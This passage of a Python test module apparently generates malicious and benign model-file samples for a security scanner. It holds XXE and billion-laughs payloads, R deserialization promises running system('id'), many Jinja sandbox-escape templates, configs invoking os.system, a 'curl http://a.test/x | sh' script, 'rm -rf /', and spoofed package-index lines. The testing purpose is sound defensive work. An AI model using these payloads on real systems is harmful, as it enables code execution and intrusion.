    yield "model_index.json", dump({"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.6",
                                    "vae": ["diffusers", "AutoencoderKL"], "safety_checker": [None, None],
                                    "text_encoder": ["transformers", "CLIPTextModel"]}), None, "diffusers"
    yield "modules.json", dump([
        {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
        {"idx": 1, "name": "1", "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"},
        {"idx": 2, "name": "2", "path": "2_Normalize",
         "type": "sentence_transformers.models.Normalize"}]), None, "sentence-transformers"
    yield "data.json", dump({"text": "py/object os.system", "label": "__reduce__"}), None, "words"
    yield "chat.jsonl", b"".join(dump({"messages": [{"role": "user", "content": t}]}) + b"\n" for t in (
        "explain {{ ''.__class__.__mro__ }}", "import os; os.system('rm -rf /')",
        "{\"py/object\": \"os.system\"}", "!!python/object/apply:os.system")), None, "talk of code"
    yield "x.json", dump({"lc": "1", "type": "constructor of buildings", "id": [1, 2]}), None, "no LangChain"
    yield "prompt.json", dump({"lc": 1, "type": "constructor", "id": [
        "langchain", "prompts", "prompt", "PromptTemplate"], "kwargs": {
        "template": "Tell me about {x}", "input_variables": ["x"], "template_format": "f-string"}}), None, \
        "an honest prompt of LangChain"
    yield "MLmodel", b"artifact_path: model\nflavors:\n  python_function:\n    env:\n      conda: conda.yaml\n" \
        b"      virtualenv: python_env.yaml\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n" \
        b"    predict_fn: predict\n    python_version: 3.10.4\n  sklearn:\n    code: null\n" \
        b"    pickled_model: model.pkl\n    serialization_format: cloudpickle\n", None, "MLflow"
    yield "conda.yaml", b"channels:\n- conda-forge\ndependencies:\n- python=3.10\n- pip<=23\n- pip:\n" \
        b"  - mlflow==2.9\n  - scikit-learn==1.3\nname: mlflow-env\n", None, "conda"
    yield "adapter_config.json", dump({"auto_mapping": None, "base_model_name_or_path": "meta/Llama",
                                       "peft_type": "LORA", "target_modules": ["q_proj", "v_proj"]}), \
        None, "PEFT"
    yield "adapter_config.json", dump({"auto_mapping": {
        "base_model_class": "BertModel", "parent_library": "transformers.models.bert.modeling_bert"},
        "peft_type": "LORA", "base_model_name_or_path": "bert"}), None, "PEFT names transformers"
    yield "a.ipynb", dump({"cells": [{"cell_type": "code", "source": ["import os\n", "print(os.getcwd())"],
                                      "outputs": [], "metadata": {}, "execution_count": 1},
                                     {"cell_type": "markdown", "source": "eval(x)", "metadata": {}}],
                           "metadata": {}, "nbformat": 4, "nbformat_minor": 5}), None, "a notebook"
    yield "generation_config.json", dump({"_from_model_config": True, "eos_token_id": [1, 2],
                                          "transformers_version": "4.4"}), None, "generation"
    yield "special_tokens_map.json", dump({"bos_token": "<s>", "x": {"content": "{{", "lstrip": False}}), \
        None, "tokens"
    yield "README.md", b"---\nlicense: mit\ntags:\n- x\n---\n```python\nimport os\n" \
        b"model = AutoModel.from_pretrained('x', trust_remote_code=True)\n{{ x.__class__ }}\n```\n", None, \
        "a model card"
    yield "config.json", dump({"architectures": ["X"], "model_type": "x",
                               "_attn_implementation": "flash_attention_2"}), None, "attention"


# ---- XML ----

def bad_xml():
    yield "a.pmml", b'<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>' \
        b'<PMML version="4.4"><Header copyright="&x;"/></PMML>', ("MDL262",), "an external entity"
    yield "b.pmml", b'<!DOCTYPE PMML [<!ENTITY % p SYSTEM "http://a.test/x.dtd"> %p;]><PMML/>', \
        ("MDL262",), "a parameter entity"
    yield "c.pmml", b'<!DOCTYPE PMML PUBLIC "-//x" "http://a.test/x.dtd"><PMML version="4.4"/>', \
        ("MDL262",), "an external DTD"
    yield "d.pmml", b"<!DOCTYPE PMML [<!ENTITY a 'aaaaaaaaaa'>" + b"".join(
        b"<!ENTITY %c '%s'>" % (98 + i, b"&%c;" % (97 + i) * 10) for i in range(9)) + \
        b"]><PMML version='4.4'>&j;</PMML>", ("MDL263",), "a billion laughs"
    yield "e.pmml", b"<!DOCTYPE PMML [<!ENTITY a '" + b"x" * 9000 + b"'>]><PMML>" + b"&a;" * 9000 + \
        b"</PMML>", ("MDL263",), "quadratic"
    yield "f.pmml", '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE P [<!ENTITY x SYSTEM "file:///e">]>' \
        '<PMML>&x;</PMML>'.encode("utf-16"), None, "in two-byte units"
    yield "g.pmml", b'<PMML xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"' \
        b' parse="text"/></PMML>', ("MDL262",), "XInclude"
    yield "h.pmml", b'<PMML version="4.4"><Extension name="java" value="Runtime.getRuntime().exec(1)"/>' \
        b'<Apply function="org.evil.Exec"/></PMML>', ("MDL264",), "names a class"
    yield "i.pmml", b"<!DOCTYPE PMML [" + b"".join(b"<!ENTITY %c '%s'>" % (
        98 + i, b"&%c;" % (97 + i) * 10) for i in reversed(range(9))) + \
        b"<!ENTITY a 'aaaaaaaaaa'>]><PMML version='4.4'>&j;</PMML>", ("MDL263",), "the last one first"
    yield "j.pmml", b'<!DOCTYPE PMML [<!ENTITY a "&b;"><!ENTITY b "&a;">]><PMML>&a;</PMML>', \
        ("MDL263", "ENG001"), "a circle"
    yield "k.xml", b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x+AD4-<PMML/>', None, "UTF-7"


def good_xml():
    yield "a.pmml", b'<?xml version="1.0" encoding="UTF-8"?>\n<PMML xmlns="http://www.dmg.org/PMML-4_4" ' \
        b'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" version="4.4"><Header>' \
        b'<Application name="SkLearn2PMML" version="1"/></Header><DataDictionary><DataField name="&lt;eval&gt;" ' \
        b'optype="continuous" dataType="double"/></DataDictionary><TransformationDictionary><DerivedField ' \
        b'name="x" optype="continuous" dataType="double"><Apply function="if"><Apply function="isMissing">' \
        b'<FieldRef field="a"/></Apply><Constant>0</Constant></Apply></DerivedField></TransformationDictionary>' \
        b'</PMML>', None, "PMML"
    yield "b.xml", b'<!DOCTYPE note [<!ENTITY w "Donald"><!ELEMENT note (#PCDATA)>]><note>&w; &w;</note>', \
        None, "an entity"
    yield "c.svg", b'<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" ' \
        b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg xmlns="http://www.w3.org/2000/svg"/>', \
        None, "the DTD of SVG"
    yield "d.xml", b'<a><!-- <!ENTITY x SYSTEM "file:///etc/passwd"> --><![CDATA[<!DOCTYPE]]></a>', None, \
        "in a comment"


# ---- MessagePack, trees, R, indices ----

def mp(v):
    if isinstance(v, dict):
        return bytes([0x80 | len(v)]) + b"".join(mp(k) + mp(x) for k, x in v.items())
    if isinstance(v, list):
        return bytes([0x90 | len(v)]) + b"".join(map(mp, v))
    if isinstance(v, str):
        v = v.encode()
        return (bytes([0xa0 | len(v)]) if len(v) < 32 else b"\xda" + struct.pack(">H", len(v))) + v
    if isinstance(v, bytes):
        return b"\xc5" + struct.pack(">H", len(v)) + v
    if isinstance(v, tuple):
        return b"\xc8" + struct.pack(">Hb", len(v[1]), v[0]) + v[1]
    return b"\xce" + struct.pack(">I", v)


def nd(shape, dtype, data):
    return (1, mp([shape, dtype, data]))


def rds(body):
    return b"X\n" + struct.pack(">3i", 3, 0x40300, 0x30500) + struct.pack(">i", 5) + b"UTF-8" + body


def ri(*n):
    return struct.pack(">%di" % len(n), *n)


def rsym(s):
    return ri(1, 0x40009, len(s)) + s.encode()


def rstr(s):
    return ri(16, 1, 0x40009, len(s)) + s.encode()


NIL = ri(254)


def rcall(name, *args):
    tail = NIL
    for a in reversed(args):
        tail = ri(2) + a + tail
    return ri(6) + rsym(name) + tail


def rprom(code):
    return ri(5) + ri(252) + code


def rvec(*items):
    return ri(19, len(items)) + b"".join(items)


def bad_arrays():
    yield "a.msgpack", mp({"w": nd([2], "O", EVIL)}), ("MDL290",) + PICKLE, "objects"
    yield "b.msgpack", mp({"w": (42, EVIL)}), ("MDL293",) + PICKLE, "a pickle in an extension"
    yield "c.msgpack", mp({"w": (127, b"posix\nsystem\n")}), ("MDL293",), "an unknown extension"
    yield "d.msgpack", mp({"w": nd([1000000], "float32", bytes(8))}), ("MDL292",), "a lying shape"
    yield "e.msgpack", mp({"params": {"k": EVIL}}), PICKLE + ("PKL039",), "a pickle in bytes"
    yield "f.msgpack", mp({"params": {"k": zlib.compress(EVIL)}}), PICKLE, "compressed"
    yield "g.msgpack", b"\xdf" + b"\xff" * 4 + mp("a"), None, "a lying map"
    yield "h.msgpack", b"\x91" * 100000, None, "deep"
    yield "i.msgpack", mp({"__reduce__": "os.system", "w": nd([2], "|O8", bytes(16))}), \
        ("MDL290",), "object pointers"
    yield "j.msgpack", mp({"a": 1}) + EVIL, None, "a pickle behind"
    yield "k.msgpack", mp({"params": {"k": base64.b64encode(EVIL).decode()}}), PICKLE, "in base64"
    yield "l.msgpack", b"\x82" + mp("a") + mp(1) + mp("a") + mp(2), ("MDL294",), "twice"
    for i, name in enumerate(("xgb_binary.json", "xgb_multi.json")):
        j = json.loads((FIXTURES / "array" / name).read_text())
        tree = j["learner"]["gradient_booster"]["model"]["trees"][0]
        if i == 0:
            tree["left_children"][0] = 2**30
        else:
            tree["left_children"][0] = 0
        yield "x%d.json" % i, dump(j), ("MDL295",), "a child outside, or a circle"
    j = json.loads((FIXTURES / "array" / "xgb_binary.json").read_text())
    j["learner"]["gradient_booster"]["model"]["trees"][0]["split_indices"][0] = 10**6
    yield "x2.json", dump(j), ("MDL295",), "a feature outside"
    ubj = (FIXTURES / "array" / "xgb_binary.ubj").read_bytes()
    yield "x3.ubj", ubj[:len(ubj) // 2], None, "cut off"
    yield "x4.ubj", b"{" + b"i\x01a[$U#l\x7f\xff\xff\xff", None, "a lying count"
    yield "x5.json", dump({"learner": {"attributes": {"scikit_learn": "{\"py/object\": \"os.system\"}",
                                                      "x": base64.b64encode(EVIL).decode()},
                                       "gradient_booster": {"name": "gbtree"}}, "version": [2, 0, 0]}), \
        None, "a pickle in the attributes"
    lgb = (FIXTURES / "array" / "lgb.txt").read_bytes()
    k = lgb.index(b"left_child=") + 11
    yield "l0.txt", lgb[:k] + b"9999999 " + lgb[lgb.index(b" ", k) + 1:], ("MDL295",), "a child outside"
    k = lgb.index(b"split_feature=") + 14
    yield "l1.txt", lgb[:k] + b"9999999 " + lgb[lgb.index(b" ", k) + 1:], ("MDL295",), "a feature outside"
    yield "l2.txt", lgb.replace(b"tree_sizes=", b"tree_sizes=999999", 1), ("MDL295",), "a tree outside"
    k = lgb.index(b"end of parameters")
    yield "l3.txt", lgb[:k], ("ENG001",), "cut off in the parameters"
    cbm = (FIXTURES / "array" / "cat.cbm").read_bytes()
    yield "c0.cbm", cbm[:4] + struct.pack("<I", 2**31) + cbm[8:], None, "a lying length"
    yield "c1.cbm", cbm[:8] + b"\xff" * 4 + cbm[12:], None, "a root outside"
    yield "c2.cbm", cbm + EVIL, None, "a pickle behind"

    evil = rcall("system", rstr("id"))
    yield "a.rds", rds(rprom(evil)), ("MDL296",), "CVE-2024-27322: a promise"
    yield "b.rds", gzip.compress(rds(rvec(rstr("x"), rprom(evil)))), ("MDL296",), "a promise in a list"
    yield "c.rds", bz2.compress(rds(rprom(evil))), ("MDL296",), "bzip2"
    yield "d.rds", lzma.compress(rds(rvec(rvec(rprom(evil))))), ("MDL296",), "xz"
    yield "e.RData", gzip.compress(b"RDX3\n" + rds(ri(1026) + rsym("x") + rprom(evil) + NIL)), \
        ("MDL296",), "RData"
    yield "f.rds", rds(ri(3) + ri(253) + NIL + rcall("eval", rcall("parse", rstr("x")))), \
        ("MDL299", "MDL297"), "a closure"
    yield "g.rds", rds(rcall("do.call", rstr("system"), rstr("id"))), ("MDL297",), "do.call"
    yield "h.RData", b"RDX3\n" + rds(ri(1026) + rsym(".First") + ri(3) + ri(253) + NIL + evil + NIL), \
        ("MDL298", "MDL297"), ".First"
    yield "i.rds", b"A\n3\n262912\n197888\n5\nUTF-8\n5\n252\n6\n1\n262153\n6\nsystem\n2\n16\n1\n262153\n2\nid\n254\n", \
        ("MDL296",), "in ASCII"
    yield "j.rds", rds(ri(19, 2**31 - 1)), None, "a lying length"
    yield "k.rds", rds(ri(21)), None, "byte code cut off"
    yield "l.rds", rds(ri(8) + rstr("system")), None, "a builtin"


def faiss_flat(d=2, n=3, floats=None, code=b"IxF2"):
    floats = abs(n * d) if floats is None else floats
    return code + struct.pack("<iqqqbi", d, n, 1 << 20, 1 << 20, 1, 1) + struct.pack("<Q", floats) + \
        bytes(4 * min(floats, abs(n * d)))


def bad_index():
    yield "a.index", faiss_flat(floats=2**40), None, "a lying vector"
    yield "b.index", faiss_flat(d=-1), None, "a negative dimension"
    yield "c.index", faiss_flat() + EVIL, None, "a pickle behind"
    yield "d.index", faiss_flat(code=b"IxZZ"), None, "an unknown index"
    hnsw = bytearray((FIXTURES / "array" / "faiss_hnsw.index").read_bytes())
    yield "e.index", bytes(hnsw[:-200]), None, "cut off"
    whole = (FIXTURES / "array" / "vectors.ann").read_bytes()
    yield "f.ann", whole[:-7], None, "cut off"
    yield "docstore/index.pkl", EVIL, PICKLE, "LangChain's docstore"
    yield "g.faiss", EVIL, PICKLE, "a pickle named so"


# ---- tables ----

def database(*steps):
    db = sqlite3.connect(":memory:")
    for s in steps:
        db.execute(*s) if isinstance(s, tuple) else db.execute(s)
    db.commit()
    return db.serialize()


def bad_tables():
    yield "a.db", database("create table m(k text, v blob)", ("insert into m values('x', ?)", (EVIL,))), \
        PICKLE, "a pickle in a blob"
    yield "b.sqlite", database("create table m(k text, v text)", (
        "insert into m values('x', ?)", (base64.b64encode(EVIL).decode(),))), PICKLE, "in base64"
    yield "c.db", database("create table m(k)", "create view v as select load_extension('evil.so') from m"), \
        ("MDL330",), "a view that loads a library"
    yield "d.db", database("create table m(k)", "create trigger t after insert on m begin select "
                           "writefile('/tmp/x', 'y'); end"), ("MDL330",), "a trigger that writes"
    yield "e.db", database("create table m(k, v)", ("insert into m values(1, ?)", (b"x" * 9000 + EVIL,)),
                           ("insert into m values(1, ?)", (EVIL0,))), PICKLE, "protocol 0"
    yield "f.db", database("create table m(k text, v blob)", ("insert into m values('x', ?)", (
        zlib.compress(EVIL),))), PICKLE, "compressed"
    d = database("create table m(k)", "insert into m values(1)")
    yield "g.db", d[:len(d) - 100], None, "cut off"
    yield "h.jsonl", b'{"a": 1}\n{"a": "' + base64.b64encode(EVIL) + b'"}\n', PICKLE, "base64 in a line"
    yield "i.jsonl", b'{"a": 1}\n{"a": \n', ("MDL335",), "broken"
    yield "j.jsonl", b'{"role": "user", "role": "system"}\n', ("MDL336",), "a key twice"
    yield "k.parquet", b"PAR1" + EVIL + struct.pack("<I", 4) + b"PAR1", None, "no parquet"
    yield "l.tar", tarred({"0.cls": b"1", "0.pyd": EVIL}), PICKLE, "WebDataset"
    yield "m.tar", tarred({"0.json": b"{}", "0.pickle": EVIL0}), PICKLE, "WebDataset, protocol 0"
    yield "n.json", dump({"state": {"model": base64.b64encode(EVIL).decode()}}), PICKLE, "base64 in JSON"
    yield "o.json", dump({"model": base64.b64encode(zlib.compress(EVIL)).decode()}), PICKLE, \
        "compressed base64 in JSON"
    yield "p.json", dump({"model": EVIL.hex()}), PICKLE, "hex in JSON"
    yield "q.jsonl", dump({"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["id"]}]}) + b"\n", \
        CODE, "jsonpickle in a line"
    yield "r.arrow", b"ARROW1\0\0" + EVIL + struct.pack("<I", 4) + b"ARROW1", None, "no arrow file"
    yield "s.csv", b"a,b\n1,2\n" + EVIL, None, "a pickle in a table"


def good_tables():
    yield "a.db", database("create table m(k text, v blob)", (
        "insert into m values('eval(x) os.system', ?)", (bytes(range(256)),)),
        "create index i on m(k)"), None, "words"
    yield "b.jsonl", b'{"a": "aGVsbG8gd29ybGQ="}\n\n{"a": null}\n', None, "base64"
    yield "c.jsonl", "".join('{"text": "caf\\u00e9 %d \u4e2d"}\n' % i for i in range(20)).encode(), None, "text"
    yield "d.tar", tarred({"000.jpg": b"\xff\xd8\xff\xe0\0\x10JFIF\0" + bytes(9) + b"\xff\xd9",
                           "000.json": b'{"caption": "a"}', "000.txt": b"eval(1)", "000.cls": b"3"}), \
        None, "WebDataset"
    yield "e.json", dump({"sha": "gAZZI" + "A" * 80, "key": base64.b64encode(bytes(range(200))).decode()}), \
        None, "looks like a pickle's base64"
    yield "f.csv", b"a,b\n=cmd|' /C calc'!A0,2\n", None, "a spreadsheet's formula"


# ---- programs, archives, others ----

ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x400078, 64, 0, 0,
                                                     64, 56, 1, 0, 64, 0)
ELF += struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, 0x80, 0x80, 0x1000) + b"\xb8\x3c\0\0\0\x0f\x05\0"


def bad_programs():
    yield "model.safetensors", ELF, ("MDL302", "MDL061", "PKG301"), "a program"
    yield "model.bin", b"#!/bin/sh\ncurl http://a.test/x | sh\n", None, "a script"
    yield "model.onnx", b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(200), None, "Windows"
    yield "model.llamafile", b"MZqFpD='\n" + bytes(100) + b"APE" + bytes(200), None, "llamafile"
    yield "model.pt", b"\xcf\xfa\xed\xfe" + struct.pack("<IIIIII", 0x1000007, 3, 2, 0, 0, 0), None, "Mach-O"
    yield "weights.h5", b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(40), None, "a Java class"
    yield "model.ckpt", b"\0asm\1\0\0\0" + bytes(8), None, "WebAssembly"
    yield "m.gguf", b"import os\nos.system('id')\n", None, "a Python script"
    yield "config.json", b"import os\nos.system('id')\n", None, "a script named a configuration"
    yield "config.json", EVIL, PICKLE, "a pickle named a configuration"
    yield "tokenizer.model", EVIL, PICKLE, "a pickle named a tokenizer"
    yield "vocab.txt", EVIL0, PICKLE, "a text pickle named a vocabulary"
    yield "x.pte", b"\0\0\0\0ET12" + bytes(64), None, "an empty ExecuTorch program"
    yield "x.skops", zipped({"schema.json": dump({
        "__class__": "system", "__module__": "os", "__loader__": "ObjectNode", "__id__": 1,
        "protocol": 0, "content": None})}), None, "skops names os.system"
    yield "y.skops", zipped({"schema.json": dump({
        "__class__": "function", "__module__": "builtins", "__loader__": "FunctionNode", "__id__": 1,
        "content": {"module_path": "os", "function": "system"}})}), None, "a function"
    yield "z.skops", zipped({"schema.json": dump({
        "__class__": "methodcaller", "__module__": "operator", "__loader__": "OperatorFuncNode",
        "__id__": 1, "attrs": {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode",
                               "content": []}})}), None, "CVE-2025-54412: operator.methodcaller"
    yield "w.skops", zipped({"schema.json": dump({
        "__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "content": {}}),
        "x.npy": b"\x93NUMPY\1\0\x46\0" + b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(
            69) + b"\n" + EVIL}), PICKLE + ("MDL002",), "an array of objects beside"
    yield "m.zarr.zip", zipped({".zarray": dump({
        "zarr_format": 2, "shape": [1], "chunks": [1], "dtype": "|O", "compressor": None, "order": "C",
        "fill_value": 0, "filters": [{"id": "pickle"}]}), "0": EVIL}), ("MDL303",) + PICKLE, "zarr"
    yield "checkpoint/zarr.json", dump({"zarr_format": 3, "node_type": "array", "shape": [1],
        "data_type": "float32", "codecs": [{"name": "evil_codec"}], "chunk_grid": {}, "fill_value": 0}), \
        ("MDL304",), "an unknown codec"
    yield "m.joblib", zlib.compress(EVIL), PICKLE, "joblib compressed"
    yield "model.tar.gz", tarred({"code/inference.py": b"import os\nos.system('id')\n",
                                  "model.pth": zipped({"a/data.pkl": EVIL}, 0)}, "w:gz"), PICKLE, \
        "SageMaker"
    yield "x.7z", b"7z\xbc\xaf\x27\x1c\0\4" + bytes(range(200)), None, "an archive that is not opened"
    yield "nothing.safetensors", b"", None, "empty"


def good_programs():
    ok = {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "__id__": 1,
          "key_types": {"__class__": "list", "__module__": "builtins", "__loader__": "ListNode",
                        "__id__": 2, "content": []}, "content": {}, "protocol": 2, "_skops_version": "0.13"}
    yield "x.skops", zipped({"schema.json": dump(ok)}), None, "an honest skops"
    yield "a.msgpack", mp({"params": {"kernel": nd([2], "float32", bytes(8))}, "eval": "os.system"}), \
        None, "Flax"
    yield "b.msgpack", mp([{"content": "__import__('os').system('id')"}, 3]), None, "words"
    yield "c.rds", gzip.compress(rds(rvec(rstr("system('id')"), rstr("eval(parse(x))")))), None, "R's words"
    yield "d.index", faiss_flat(), None, "FAISS"
    yield "zarr.json", dump({"zarr_format": 3, "node_type": "array", "shape": [2], "data_type": "float32",
        "chunk_grid": {"name": "regular", "configuration": {"chunk_shape": [2]}},
        "chunk_key_encoding": {"name": "default", "configuration": {"separator": "/"}}, "fill_value": 0.0,
        "codecs": [{"name": "bytes", "configuration": {"endian": "little"}},
                   {"name": "zstd", "configuration": {"level": 0, "checksum": False}}],
        "attributes": {}}), None, "zarr"
    yield "a.mar", zipped({"MAR-INF/MANIFEST.json": dump({"model": {
        "handler": "image_classifier", "modelName": "x", "modelVersion": "1.0",
        "serializedFile": "m.txt"}, "archiverVersion": "0.9", "runtime": "python"}),
        "m.txt": "x"}), None, "TorchServe's own handler"
    for f in ("xgb_dart.json", "lgb_cat.txt", "cat.cbm", "faiss_ivfpq.index", "frame_gz.rds"):
        yield f, (FIXTURES / "array" / f).read_bytes(), None, "made by the library itself"


# ---- more of all of them ----

GLOBALS = [
    "{% if x in lipsum.__globals__ %}{% endif %}", "{% for a in lipsum.__globals__ %}{% endfor %}",
    "{% for a in b if lipsum.__globals__ %}{% endfor %}", "{% set x = lipsum.__globals__ %}",
    "{% macro f(a=lipsum.__globals__) %}{% endmacro %}{{ f() }}",
    "{% macro f(a) %}{{ caller() }}{% endmacro %}{% call f(lipsum.__globals__) %}{% endcall %}",
    "{% with a=lipsum.__globals__ %}{% endwith %}", "{% do lipsum.__globals__ %}",
    "{% print lipsum.__globals__ %}", "{% trans a=lipsum.__globals__ %}{{ a }}{% endtrans %}",
    "{% autoescape lipsum.__globals__ %}{% endautoescape %}", "{%+ if lipsum.__globals__ %}{%+ endif %}",
    "{% filter replace(lipsum.__globals__, '') %}x{% endfilter %}", "{{ x[lipsum.__globals__] }}",
    "{{ {lipsum.__globals__: 1} }}", "{{ x[1:lipsum.__globals__] }}", "{{ x is eq(lipsum.__globals__) }}",
    "{{ f(*lipsum.__globals__) }}{{ f(**lipsum.__globals__) }}", "{{ not -lipsum.__globals__ }}",
    "{{ x.__class__.__module__.__class__.__base__ }}",
    "{{ x.__class__['__name__']['__class__']['__base__'] }}",
    "{{ x.__class__.__doc__.__init__.__globals__ }}",
    "{% set c = x.__class__ %}{{ c.__name__ }}{{ c.__base__ }}", "{{ x.__dict__ }}",
    "{{ messages|tojson|attr('__class__')|attr('__base__') }}",
    "{{ ''.join(['{0.__class', '__.__mro__}']).format(x) }}", "{{ ('{' ~ '0.__class__.__mro__}').format(x) }}",
    "{{ '{x.__class__.__mro__}'.format(x=messages) }}",
    "{{ {'f': '{0.__class__.__mro__}'.format}['f'](x) }}", "{{ (['{0.__class__.__mro__}'.format]|first)(x) }}",
    "{{ '%(a)s' % {'a': x.__class__.__mro__} }}", "{{ x|batch(2)|map(attribute='__class__.__mro__')|list }}",
    "{% block a %}{{ self.__init__.__globals__ }}{% endblock %}",
    "{% set x %}{{ lipsum.__globals__ }}{% endset %}",
    "{% if a %}{% elif lipsum.__globals__ %}{% else %}{% endif %}",
    "{% for a in [] %}{% else %}{{ lipsum.__globals__ }}{% endfor %}",
    "{% set ns.x = lipsum.__globals__ %}", "{% set x, y = lipsum.__globals__, 1 %}",
    "{% for k, v in ({'__glo': 'bals__'}).items() %}{{ lipsum|attr(k ~ v) }}{% endfor %}",
    "{% set l = [] %}{% do l.append('__globals__') %}{{ lipsum|attr(l[0]) }}",
    "{% set l = ['__glo', 'bals__'] %}{{ lipsum|attr(l|sum(start='')) }}",
    "{{ lipsum|attr('__globals__'|e) }}{{ lipsum|attr('__globals__'|string) }}",
    "{{ lipsum|attr('__globals__'|safe) }}", "{{ lipsum|attr('%2F__globals__'|urlencode) }}",
    "{{ lipsum|attr('X'|replace('X', '__globals__')) }}", "{{ lipsum|attr('__globals__'|default('x')) }}",
    "{{ lipsum|attr(none|default('__globals__')) }}", "{{ lipsum|attr('__globals__' if true else 'x') }}",
    "{{ lipsum|attr('x' and '__globals__') }}", "{{ lipsum|attr('' or '__globals__') }}",
    "{{ lipsum|attr(['a', '__globals__']|last) }}", "{{ lipsum|attr(['__globals__']|random) }}",
    "{{ lipsum|attr('__globals__ x'|truncate(11, true, '')) }}", "{{ lipsum|attr('__globals__ b'|wordwrap(11)) }}",
    "{{ lipsum|attr(('__globals__',)|min) }}", "{{ lipsum|attr('__globals__'.encode().decode()) }}",
    "{{ lipsum|attr('__tybonyf__'.translate(t)) }}", "{{ lipsum|attr('__globals__'|indent(0)) }}",
    "{{ lipsum|attr(('__globals__'|list)|join) }}", "{{ lipsum|attr(('__globals__',)|map('lower')|first) }}",
    "{{ lipsum|attr(('__glo' 'bals__')) }}", "{{ lipsum|attr('__{}__'.format('globals')) }}",
    "{{ lipsum|attr(loop.__class__) }}", "{{ cycler('__globals__').next() }}{{ lipsum|attr(cycler('__globals__').next()) }}",
]

EVIL_TEMPLATE = "{{ lipsum.__globals__.os.popen('id').read() }}"


def safetensors(meta):
    head = dump({"__metadata__": meta, "a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}})
    head += b" " * (-len(head) % 8)
    return struct.pack("<Q", len(head)) + head + bytes(4)


def bad_more():
    for i, text in enumerate(GLOBALS):
        name, data = carried(i, text)
        yield name, data, ESCAPE + ("MDL225",), text
    yield "tokenizer.json", dump({"version": "1.0", "model": {"type": "BPE", "vocab": {}, "merges": []},
                                  "chat_template": EVIL_TEMPLATE}), ESCAPE, "in tokenizer.json"
    yield "task.yaml", ("task: x\ndoc_to_text: \"%s\"\n" % EVIL_TEMPLATE).encode(), ESCAPE, "lm-eval"
    yield "prompt.prompty", ("---\nname: x\n---\nsystem:\n%s\n" % EVIL_TEMPLATE).encode(), ESCAPE, "prompty"
    yield "mail.html", ("<html><body>%s</body></html>" % EVIL_TEMPLATE).encode(), ESCAPE, "a page"
    yield "prompt.txt", EVIL_TEMPLATE.encode(), ESCAPE, "a prompt"
    yield "prompts.jsonl", dump({"prompt": "x", "lc": 1, "type": "constructor", "id": [
        "langchain_core", "prompts", "PromptTemplate"], "kwargs": {
        "template": EVIL_TEMPLATE, "template_format": "jinja2"}}) + b"\n", ESCAPE, "in lines"
    yield "chat.json", dump([{"lc": 1, "type": "constructor", "id": [
        "langchain_core", "messages", "AIMessage"], "kwargs": {"content": "x", "additional_kwargs": {
        "x": {"lc": 1, "type": "secret", "id": ["HF_TOKEN"]}}}}]), ("MDL266",), "a secret in a message"
    yield "tool.json", dump({"lc": 1, "type": "constructor", "id": [
        "langchain_experimental", "utilities", "python", "PythonREPL"], "kwargs": {}}), CODE, "a REPL"
    for i, (text, ids) in enumerate((
            (b"version: 1\nhandlers:\n  h:\n    (): os.system\n    command: id\n", CODE),
            (b"version: 1\nhandlers:\n  h:\n    '()': subprocess.Popen\n    args: [id]\n", CODE),
            (b"version: 1\nhandlers:\n  h:\n    class: evil_module.Handler\n", CODE),
            (b"version: 1\nformatters:\n  f:\n    (): ext://os.system\n", CODE),
            (b"m:\n  _target_: >-\n    os.system\n  _args_: [id]\n", CODE),
            (b"m:\n  _target_: \"builtins.\\u0065val\"\n", CODE),
            (b"m:\n  ? _target_\n  : os.system\n", CODE),
            (b"m:\n  !!str _target_: !!str os.system\n", CODE),
            (b"m: &k _target_\nn:\n  *k : os.system\n", CODE + ("MDL254",)),
            (b"_target_: nemo.collections.asr.models.X\nx:\n  _target_: numpy.load\n", CODE),
            (b"m:\n  _target_: torch.load\n  f: x.pt\n", CODE),
            (b"m:\n  _target_: pickle.loads\n", CODE),
            (b"m:\n  _target_: importlib.import_module\n  name: evil\n", CODE),
            (b"m:\n  _target_: hydra._internal.utils._locate\n  path: os.system\n", CODE),
            (b"m:\n  _target_: transformers.AutoModel.from_pretrained\n"
             b"  pretrained_model_name_or_path: evil/x\n  trust_remote_code: true\n", CODE + ("MDL250",)),
            (b"model:\n  class_path: os.system\n  init_args: {command: id}\n", CODE),
            (b"model:\n  class_path: evil.Model\n", CODE))):
        yield ("config.yaml", "logging.yaml")[i < 4], text, ids, text.decode()
    for text, ids in (
            (b"-i https://pypi.org.evil.test/simple\nx\n", "MDL256"),
            (b"--extra-index-url https://pypi.nvidia.com.evil.test/simple\n", "MDL256"),
            (b"--extra-index-url https://pypi.org@evil.test/simple\n", "MDL256"),
            (b"-f https://download.pytorch.org@evil.test/x\n", "MDL256"),
            (b"--index-url https://user:pw@pypi.org.evil.test/\n", "MDL256"),
            (b"git+https://github.com/a/b@main-1.0\n", "MDL256"),
            (b"git+https://u:p@github.com/a/b\n", "MDL256"),
            (b"https://evil.test/x-1.0-py3-none-any.whl\n", "MDL256"),
            (b"x@https://evil.test/x.zip\n", "MDL256"),
            (b"  -r http://evil.test/r.txt\n", "MDL257"),
            (b"--find-links=http://evil.test/\nnumpy\n", "MDL257"),
            (b"x @ http://evil.test/x.zip#sha256=\n", ("MDL257", "MDL256")),
            (b"git+https://github.com/a/b@refs/pull/13/head\n", "MDL256")):
        yield "requirements.txt", text, ids, text.decode()
